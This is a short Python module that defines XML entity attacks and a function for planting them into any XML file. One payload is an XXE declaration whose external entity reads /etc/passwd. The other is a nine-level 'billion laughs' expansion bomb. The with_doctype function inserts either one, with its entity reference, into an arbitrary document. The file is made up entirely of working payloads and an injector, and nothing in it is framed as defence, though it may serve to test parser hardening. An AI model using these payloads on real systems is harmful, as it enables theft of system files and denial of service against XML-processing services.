"""Entity attacks as DOCTYPE declarations, and a way to plant one in any XML file."""

from __future__ import annotations

XXE = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
XXE_REF = b"&x;"
LAUGHS = (b"<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
          + b"]>")
LAUGHS_REF = b"&lol9;"


def with_doctype(xml: bytes, decl: bytes, ref: bytes) -> bytes:
    """``xml`` with the DOCTYPE ``decl`` after its XML declaration and ``ref`` as the root's first text."""
    at = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    body = xml[at:]
    close = body.index(b">", body.index(b"<")) + 1  # end of the root's start tag
    return xml[:at] + decl + body[:close] + ref + body[close:]
